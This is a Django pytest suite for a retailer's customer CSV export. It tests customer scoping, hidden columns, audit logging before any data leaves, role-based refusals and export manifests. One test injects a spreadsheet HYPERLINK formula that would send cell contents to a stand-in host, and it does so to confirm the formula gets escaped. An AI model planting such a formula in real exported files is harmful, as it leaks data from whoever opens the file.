"""A retailer's own customers as a file: whose, which columns, and nothing that is not in the history first."""

import csv
import io
import json
import stat
from hashlib import sha256

import pytest
from django.contrib.auth.models import Group, Permission
from django.core.management import CommandError, call_command
from django.db import connection, transaction
from django.db.utils import ProgrammingError
from django.test.utils import CaptureQueriesContext
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from access.errors import Denied
from access.people import Person
from access.roles import ROLES
from audit import acting, recording
from audit.models import LogEntry
from customers import exporting
from customers.disclosure import Audience, fields_for
from customers.models import Customer
from tests.world import HANAKO, HANAKO_VALUES, JIRO, MARUGAME, OTHER_RETAILER, TAKAMATSU, TARO, TRAINING

pytestmark = pytest.mark.django_db

#: The third column of the statement's table, own customers, in its order; and what Hanako's cells hold.
HEADER = [
    "供給地点特定番号", "契約名義", "契約名義（カナ）", "供給地点住所", "連絡先電話番号", "供給電圧",
    "接続送電サービスメニュー", "契約容量（kVA）", "契約電力（kW）", "力率（%）",
]  # fmt: skip
HANAKO_ROW = [
    HANAKO, "香川 花子", "カガワ ハナコ", "香川県高松市番町1丁目8-15", "087-821-0001", "低圧",
    "電灯標準接続送電サービス", "61.7", "43.3", "79",
]  # fmt: skip
#: What stands in the table beside a customer and is hidden from a retailer, as SQL would name it.
HIDDEN = ("menu_category", "fit_started_on", "generator_output_kw", "customers_organization", "monthlyusage")
NOT_RETAILERS = [role.role.value for role in ROLES if role.role != "retailer"]


def rows_of(data: bytes) -> list[list[str]]:
    """The file as a program reads it that knows its byte order mark."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def export(person: Person, retailer=None) -> bytes:
    return b"".join(exporting.begin(person, retailer or person.organization).pieces())


def numbers_in(data: bytes) -> list[str]:
    return [row[0] for row in rows_of(data)[1:]]


def exported() -> LogEntry:
    return LogEntry.objects.filter(event="customer.exported")


def add(world, retailer: str, area: str, count: int = 1, first: int = 100, **values) -> list[str]:
    """Customers of a retailer in an area; returns their numbers."""
    numbers = [f"08{n:020}" for n in range(first, first + count)]
    shared = HANAKO_VALUES | values
    Customer.objects.bulk_create(
        Customer(
            **shared | {"supply_point_number": number},
            area=world.areas[area],
            retailer=world.organizations[retailer],
        )
        for number in numbers
    )
    return numbers


@pytest.fixture
def one_by_one(monkeypatch):
    """A customer a piece."""
    monkeypatch.setattr(exporting, "CHUNK", 1)


@pytest.fixture
def affiliates_staff(world) -> Person:
    """The affiliate's switching staff."""
    return Person.objects.create(
        username="affiliate", name="阿南 八郎", organization=world.organizations["affiliate"], role="retailer"
    )


# Whose customers


def test_the_file_is_own_customers_under_the_tables_names(world):
    data = export(world.retailer)
    assert data.startswith(b"\xef\xbb\xbf")
    assert rows_of(data) == [HEADER, HANAKO_ROW]


def test_the_affiliates_switching_staff_gets_the_affiliates_customers_alone(world, affiliates_staff):
    assert set(numbers_in(export(affiliates_staff))) == {JIRO, TARO}


def test_a_training_areas_customers_are_in_no_file(world):
    (training,) = add(world, "other", TRAINING)
    assert Customer.objects.filter(retailer=world.retailer.organization).count() == 2
    assert training not in export(world.retailer).decode()


@given(
    mix=st.lists(
        st.tuples(st.sampled_from(["other", "affiliate"]), st.sampled_from([TAKAMATSU, MARUGAME, TRAINING])),
        max_size=12,
    )
)
@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
def test_of_any_mix_the_file_holds_each_own_customer_once_and_no_other(world, affiliates_staff, mix):
    own = {"other": [HANAKO], "affiliate": [JIRO, TARO]}
    before, exporting.CHUNK, chunk = transaction.savepoint(), 3, exporting.CHUNK
    try:
        for n, (retailer, area) in enumerate(mix):
            added = add(world, retailer, area, first=100 + n)
            own[retailer] += added if area != TRAINING else []
        assert sorted(numbers_in(export(world.retailer))) == sorted(own["other"])
        assert sorted(numbers_in(export(affiliates_staff))) == sorted(own["affiliate"])
    finally:
        exporting.CHUNK = chunk
        transaction.savepoint_rollback(before)


def test_who_switches_away_midway_is_not_in_the_rest(world, one_by_one):
    left, stayed = add(world, "other", TAKAMATSU, 2)
    pieces = exporting.begin(world.retailer, world.retailer.organization).pieces()
    data = next(pieces) + next(pieces)
    Customer.objects.filter(supply_point_number=left).update(retailer=world.organizations["affiliate"])
    data += b"".join(pieces)
    assert numbers_in(data) == [HANAKO, stayed]
    assert not exported().of_customer(left).exists()


# Which columns


def test_a_hidden_column_is_in_no_query(world, one_by_one):
    add(world, "other", TAKAMATSU, 2)
    with CaptureQueriesContext(connection) as queries:
        export(world.retailer)
    reads = [q["sql"] for q in queries if q["sql"].startswith("SELECT") and "customers_customer" in q["sql"]]
    assert len(reads) == 4
    shown = fields_for(Audience.RETAILER, own=True)
    for sql in reads:
        selected, rest = sql.split(" FROM ", 1)
        columns = {name.split('"')[1] for name in selected.split('"customers_customer".')[1:]}
        assert columns == shown | {"id"}
        assert not any(name in sql for name in HIDDEN)
        assert "OFFSET" not in rest


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_runs_as_a_formula(world, begin):
    said = begin + 'HYPERLINK("http://example.jp/?"&A2)'
    Customer.objects.filter(supply_point_number=HANAKO).update(
        name=said, phone=begin + "81-87", address="a=b"
    )
    row = dict(zip(HEADER, rows_of(export(world.retailer))[1], strict=True))
    assert row["契約名義"] == "'" + said
    assert row["連絡先電話番号"] == "'" + begin + "81-87"
    assert row["供給地点住所"] == "a=b"


def test_what_is_not_known_is_an_empty_cell(world):
    Customer.objects.filter(supply_point_number=HANAKO).update(power_factor_percent=None)
    assert rows_of(export(world.retailer))[1] == HANAKO_ROW[:-1] + [""]


# No log, no data


def test_each_customer_has_an_entry_and_all_are_one_story(world, client_of, monkeypatch):
    monkeypatch.setattr(exporting, "CHUNK", 2)
    numbers = add(world, "other", TAKAMATSU, 5)
    response = client_of(world.retailer).post(f"/exports/{world.retailer.organization_id}/")
    assert numbers_in(b"".join(response.streaming_content)) == [HANAKO, *numbers]
    entries = list(exported().order_by("pk"))
    assert [entry.supply_point_number for entry in entries] == [HANAKO, *numbers]
    for entry in entries:
        assert set(entry.fields) == fields_for(Audience.RETAILER, own=True)
        assert (entry.actor, entry.basis, entry.area_code) == (world.retailer, "export", TAKAMATSU)
        assert entry.kind == "disclosure"
    story = LogEntry.objects.of_story(entries[0].cid)
    events = ["retailer.export_begun", *["customer.exported"] * 6, "retailer.exported"]
    assert list(story.order_by("pk").values_list("event", flat=True)) == events
    assert set(story.values_list("remote_addr", flat=True)) == {"127.0.0.1"}


def test_between_two_pieces_of_a_stream_nobody_acts(world, client_of):
    pieces = iter(client_of(world.retailer).post(f"/exports/{world.retailer.organization_id}/"))
    next(pieces)
    next(pieces)
    assert recording.decision("demo.loaded", detail={"customers": 0}).actor is None


def test_that_it_begins_is_written_before_the_first_byte(world):
    with acting.as_person(world.retailer):
        exporting.begin(world.retailer, world.retailer.organization)
    entry = LogEntry.objects.about(world.retailer.organization).get(event="retailer.export_begun")
    assert (entry.actor, entry.object_repr) == (world.retailer, OTHER_RETAILER)


def test_without_a_history_nothing_begins(world, client_of):
    client = client_of(world.retailer)
    client.raise_request_exception = False
    with connection.cursor() as cursor:
        cursor.execute("ALTER TABLE audit_logentry RENAME TO audit_elsewhere")
    response = client.post(f"/exports/{world.retailer.organization_id}/")
    assert response.status_code == 500
    assert HANAKO not in response.content.decode()


def test_when_the_history_goes_away_midway_no_byte_of_a_customer_leaves(world, client_of):
    response = client_of(world.retailer).post(f"/exports/{world.retailer.organization_id}/")
    received: list[bytes] = []
    with connection.cursor() as cursor:
        cursor.execute("ALTER TABLE audit_logentry RENAME TO audit_elsewhere")
    with pytest.raises(ProgrammingError):
        received.extend(response.streaming_content)
    assert rows_of(b"".join(received)) == [HEADER]


# Asked again for each piece


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"is_active": False}, "account_closed"),
        ({"role": "contractor"}, "role"),
        ({"organization": "affiliate"}, "not_your_customers"),
    ],
)
def test_who_may_no_longer_gets_no_further_piece(world, client_of, one_by_one, change, reason):
    add(world, "other", TAKAMATSU, 2)
    organization = world.retailer.organization
    pieces = client_of(world.retailer).post(f"/exports/{organization.pk}/").streaming_content
    data = next(pieces) + next(pieces)
    if "organization" in change:
        change = {"organization": world.organizations["affiliate"]}
    Person.objects.filter(pk=world.retailer.pk).update(**change)
    with pytest.raises(Denied, match=reason):
        next(pieces)
    assert list(pieces) == []
    assert numbers_in(data) == list(exported().values_list("supply_point_number", flat=True)) == [HANAKO]
    assert not LogEntry.objects.filter(event="retailer.exported").exists()
    entry = LogEntry.objects.denials().get()
    assert (entry.reason, entry.actor) == (reason, world.retailer)
    assert entry.additional_data == {"path": f"/exports/{organization.pk}/"}


def test_a_reader_who_goes_away_leaves_no_manifest(world, one_by_one):
    add(world, "other", TAKAMATSU, 2)
    pieces = exporting.begin(world.retailer, world.retailer.organization).pieces()
    next(pieces)
    next(pieces)
    pieces.close()
    assert exported().count() == 1
    assert not LogEntry.objects.filter(event="retailer.exported").exists()


# Who may


@pytest.mark.parametrize("role", NOT_RETAILERS)
def test_another_role_is_refused(world, client_of, role):
    person = world.people[role]
    for organization in {world.organizations["other"], person.organization}:
        response = client_of(person).post(f"/exports/{organization.pk}/")
        assert response.status_code == 403
        assert LogEntry.objects.denials().newest_first()[0].reason == "role"
    assert client_of(person).get("/exports/").status_code == 403
    assert not LogEntry.objects.filter(event__in=["retailer.export_begun", "customer.exported"]).exists()


def test_a_contractor_is_refused_even_with_the_permission(world):
    permission = Permission.objects.get(codename="export_own_customers")
    Group.objects.get(name="contractor").permissions.add(permission)
    assert world.contractor.has_perm("customers.export_own_customers")
    with pytest.raises(Denied, match="role"):
        exporting.begin(world.contractor, world.contractor.organization)


def test_another_retailers_customers_are_refused_and_that_is_written(world, client_of):
    other = world.organizations["affiliate"]
    response = client_of(world.retailer).post(f"/exports/{other.pk}/")
    assert response.status_code == 403
    assert JIRO not in response.content.decode()
    entry = LogEntry.objects.denials().get()
    assert (entry.actor, entry.reason) == (world.retailer, "not_your_customers")
    assert entry.additional_data == {"path": f"/exports/{other.pk}/"}
    assert not LogEntry.objects.filter(event="retailer.export_begun").exists()


def test_a_file_is_asked_for_by_a_button_alone(world, client_of):
    assert client_of(world.retailer).get(f"/exports/{world.retailer.organization_id}/").status_code == 405
    assert not exported().exists()


# The manifest


def test_the_page_shows_the_hash_of_the_file_that_was_downloaded(world, client_of):
    client = client_of(world.retailer)
    response = client.post(f"/exports/{world.retailer.organization_id}/")
    assert "attachment" in response["Content-Disposition"]
    assert response["Cache-Control"] == "no-store, private"
    digest = sha256(b"".join(response.streaming_content)).hexdigest()
    page = client.get("/exports/").content.decode()
    assert digest in page
    assert "坂出 六花 (retailer)" in page
    entry = LogEntry.objects.about(world.retailer.organization).get(event="retailer.exported")
    assert entry.additional_data == {"retailer": OTHER_RETAILER, "rows": 1, "sha256": digest}
    assert set(entry.fields) == fields_for(Audience.RETAILER, own=True)


def test_the_page_shows_nothing_of_other_organisations(world, client_of, affiliates_staff):
    digest = sha256(export(affiliates_staff)).hexdigest()
    page = client_of(world.retailer).get("/exports/")
    assert page.context["past"] == []
    assert digest not in page.content.decode()


# The command


def command(to, *, retailer: str = OTHER_RETAILER, username: str = "retailer") -> str:
    said = io.StringIO()
    call_command("export_retailer", retailer, "--as", username, "--to", str(to), stdout=said, verbosity=0)
    return said.getvalue()


def test_the_command_writes_the_file_and_its_manifest(world, tmp_path):
    add(world, "other", TAKAMATSU, 2)
    file = tmp_path / "own.csv"
    said = command(file)
    digest = sha256(file.read_bytes()).hexdigest()
    assert len(rows_of(file.read_bytes())) == 1 + 3
    assert said == f"3 customers. SHA-256: {digest}\n"
    manifest = json.loads((tmp_path / "own.csv.manifest.json").read_text("utf-8"))
    entry = LogEntry.objects.get(event="retailer.exported")
    assert manifest == {
        "retailer": OTHER_RETAILER,
        "rows": 3,
        "columns": list(entry.fields),
        "sha256": digest,
        "by": "坂出 六花 (retailer)",
        "at": entry.timestamp.isoformat(),
    }
    assert (entry.additional_data["sha256"], exported().count()) == (digest, 3)
    assert set(LogEntry.objects.of_story(entry.cid).values_list("actor_username", flat=True)) == {"retailer"}
    assert {stat.S_IMODE(path.stat().st_mode) for path in tmp_path.iterdir()} == {0o600}


@pytest.mark.parametrize(
    ("retailer", "username", "reason"),
    [
        ("四国地方電力株式会社", "retailer", "not_your_customers"),
        (OTHER_RETAILER, "administrator", "role"),
        (OTHER_RETAILER, "operator", "role"),
        ("四国地方電力株式会社", "contractor", "role"),
        (OTHER_RETAILER, "closed", "account_closed"),
    ],
)
def test_the_command_asks_the_same_policy_and_writes_the_refusal(world, tmp_path, retailer, username, reason):
    organization = world.organizations["other"]
    Person.objects.create(
        username="closed", name="休", organization=organization, role="retailer", is_active=False
    )
    with pytest.raises(CommandError):
        command(tmp_path / "own.csv", retailer=retailer, username=username)
    assert not list(tmp_path.iterdir())
    entry = LogEntry.objects.denials().get()
    assert (entry.reason, entry.actor_username) == (reason, username)
    assert entry.additional_data == {"path": f"manage.py export_retailer {retailer}"}


def test_a_command_that_is_stopped_midway_says_so_and_writes_no_manifest(world, tmp_path, one_by_one):
    add(world, "other", TAKAMATSU, 2)
    with connection.cursor() as cursor:  # somebody closes the account while the first piece is on its way
        cursor.execute("""
            CREATE FUNCTION close_the_account() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN
              UPDATE access_person SET is_active = false WHERE id = NEW.actor_id; RETURN NULL;
            END $$;
            CREATE TRIGGER close_the_account AFTER INSERT ON audit_logentry FOR EACH ROW
              WHEN (NEW.event = 'customer.exported') EXECUTE FUNCTION close_the_account()
        """)
    file = tmp_path / "own.csv"
    with pytest.raises(CommandError, match="own.csv is not whole, and has no manifest"):
        command(file)
    assert numbers_in(file.read_bytes()) == [HANAKO]
    assert list(tmp_path.iterdir()) == [file]
    assert LogEntry.objects.denials().get().reason == "account_closed"
    assert not LogEntry.objects.filter(event="retailer.exported").exists()


def test_a_file_that_is_there_is_kept(world, tmp_path):
    file = tmp_path / "own.csv"
    file.write_text("somebody's")
    with pytest.raises(CommandError, match="nothing was exported"):
        command(file)
    assert file.read_text() == "somebody's"
    assert not LogEntry.objects.filter(event="retailer.export_begun").exists()


@pytest.mark.parametrize("names", [{"retailer": "ない電力"}, {"username": "nobody"}])
def test_who_or_what_is_not_there_is_said(world, tmp_path, names):
    with pytest.raises(CommandError, match="no such"):
        command(tmp_path / "own.csv", **names)
